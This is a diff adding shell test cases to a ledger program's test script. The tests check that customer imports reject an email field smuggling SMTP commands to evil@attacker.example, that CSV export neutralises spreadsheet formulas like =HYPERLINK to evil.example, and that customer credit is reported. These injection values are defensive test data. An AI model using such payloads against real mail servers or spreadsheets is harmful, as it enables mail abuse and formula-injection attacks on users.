@@ -344,5 +344,24 @@ for cases in "$cases_dir/bad_input_cases.tsv" "$cases_dir/reading_cases.tsv"; do
   done < "$cases"
 done
 
+# Issue 14, ledger side: an address that would inject SMTP commands is
+# refused at import naming file, line and field; CSV cells a spreadsheet
+# would run get a leading '; credit in the customer's favour is shown.
+printf 'external_id,name,tax_id,country,email\nX1,Ana,1,CO,"billing>\r\nRCPT\tTO:<evil@attacker.example>"\n' > inject.csv
+"$cartera" --db ledger14.db import customers inject.csv > inject.out 2>&1; code=$?
+check "SMTP injection refused at import (exit 2)" test $code -eq 2
+check "SMTP injection error names file, line and field" contains inject.out "inject.csv:2: field 'email': contains a control character"
+printf 'external_id,name,tax_id,country\nC1,=HYPERLINK("http://evil.example"),1,CO\nC2,@SUM(1+1),2,CO\n' > formula.csv
+printf 'external_id,customer_external_id,date,currency,amount,method\nP1,C1,2026-01-05,COP,50.00,cash\n' > overpaid.csv
+"$cartera" --db ledger14.db -q import customers formula.csv > /dev/null
+"$cartera" --db ledger14.db -q import payments overpaid.csv > /dev/null
+"$cartera" --db ledger14.db customers --format csv > formula-out.csv
+check "customers csv neutralises formulas" contains formula-out.csv "\"'=HYPERLINK(\"\"http://evil.example\"\")\""
+check "customers csv neutralises @" contains formula-out.csv ",'@SUM(1+1),"
+check "customers csv shows credit in the customer's favour" contains formula-out.csv ",COP,0.00,0,0,50.00,-50.00"
+"$cartera" --db ledger14.db aging --as-of 2026-01-10 --format csv > credit-aging.csv
+check "aging csv adds credit and balance" contains credit-aging.csv ",total,invoices,credit,balance"
+check "aging csv shows the credit" contains credit-aging.csv ",0.00,0,50.00,-50.00"
+
 echo "$passes passed, $failures failed"
 test "$failures" -eq 0
